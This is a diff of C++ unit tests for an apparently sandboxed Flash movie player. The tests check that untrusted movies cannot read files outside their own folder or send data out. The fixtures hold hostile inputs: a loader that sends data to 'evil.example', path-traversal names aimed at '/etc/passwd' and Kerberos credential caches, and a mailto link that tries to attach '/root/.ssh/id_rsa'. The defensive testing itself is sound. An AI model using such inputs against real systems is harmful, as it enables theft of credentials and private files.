@@ -122,8 +122,8 @@ TEST_F(StrangerMovieTest, APlainMovieReadsItsOwnFolderAndNothingALinkOrPathLeads
     Actions a = exfiltratingLoader("https://evil.example/?d=");
     for (const char* name :
          {"passwd", "environ", "etc/hostname", "up/krb5cc_1000", "../krb5cc_1000", "zero", "pipe",
-          "/etc/passwd", "file:///etc/passwd", "sub/../../krb5cc_1000", "vars.txt",
-          "sub\\part.txt", "sub/again.txt"}) {
+          "/etc/passwd", "file:///etc/passwd", "sub/../../krb5cc_1000", "vars.txt", "sub\\part.txt",
+          "sub/again.txt"}) {
         a.callMethod("lv", "load", {name});
     }
     movie.doAction(a);
@@ -140,6 +140,20 @@ TEST_F(StrangerMovieTest, APlainMovieReadsItsOwnFolderAndNothingALinkOrPathLeads
     EXPECT_TRUE(m.asked.empty());
     ASSERT_EQ(m.logged.size(), 1u);
     EXPECT_NE(m.logged[0].find("not asked for by a click"), std::string::npos);
+}
+
+TEST_F(StrangerMovieTest, TheFolderIsTheMoviesRealOneAndLargeFilesAreRefusedWhole) {
+    fs::create_directories(root_ / "elsewhere");
+    fs::create_symlink(folder_ / "movie.swf", root_ / "elsewhere" / "link.swf");
+    const MovieFolder throughLink =
+        MovieFolder::ofMovie((root_ / "elsewhere" / "link.swf").string());
+    EXPECT_EQ(throughLink.realPath(), fs::canonical(folder_).string());
+    EXPECT_EQ(throughLink.read("vars.txt", 7),
+              (std::vector<std::uint8_t>{'n', 'a', 'm', 'e', '=', 'o', 'k'}));
+    EXPECT_TRUE(throughLink.read("vars.txt", 6).empty());
+    // No folder for a movie that is not there, nor for one at the root of the file system.
+    EXPECT_TRUE(MovieFolder::ofMovie((folder_ / "missing.swf").string()).empty());
+    EXPECT_TRUE(MovieFolder::ofMovie("/").empty());
 }
 
 TEST_F(StrangerMovieTest, ACardsMovieFindsNothingBesideItHoweverManyNamesItTries) {
@@ -237,9 +251,9 @@ TEST_F(StrangerMovieTest, LongAddressesAndMailAttachmentsNeverLeave) {
     placeButton(movie, huge);
     movie.showFrame();
     swftest::SwfWriter mail(version8());
-    placeButton(mail, Actions().getUrl(
-                          "mailto:a@example.org?attach=/root/.ssh/id_rsa&subject=Hi&%61ttach=x",
-                          "_blank"));
+    placeButton(
+        mail, Actions().getUrl(
+                  "mailto:a@example.org?attach=/root/.ssh/id_rsa&subject=Hi&%61ttach=x", "_blank"));
     mail.showFrame();
 
     HostileStage m(movie.finish(), MovieFolder());
